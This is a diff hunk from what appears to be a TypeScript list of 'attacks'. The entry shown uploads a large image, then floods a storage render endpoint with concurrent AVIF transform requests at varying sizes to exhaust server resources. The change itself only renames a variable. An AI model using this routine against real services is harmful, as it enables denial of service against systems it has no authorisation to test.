@@ -46,8 +46,8 @@ export const attacks: readonly Attack[] = [
       await send(`${target.portal}/storage/v1/object/${path}`, { method: 'POST', headers, body: largePicture(7_000) }, signal);
       let size = 0;
       await keepSending(32, signal, (ending) => {
-        const wanted = `width=2500&height=${1_000 + ((size += 1) % 1_500)}&format=avif`;
-        const url = `${target.portal}/storage/v1/render/image/public/${path}?${wanted}`;
+        const query = `width=2500&height=${1_000 + ((size += 1) % 1_500)}&format=avif`;
+        const url = `${target.portal}/storage/v1/render/image/public/${path}?${query}`;
         return send(url, { headers: anonymousHeaders(target) }, ending);
       });
     },
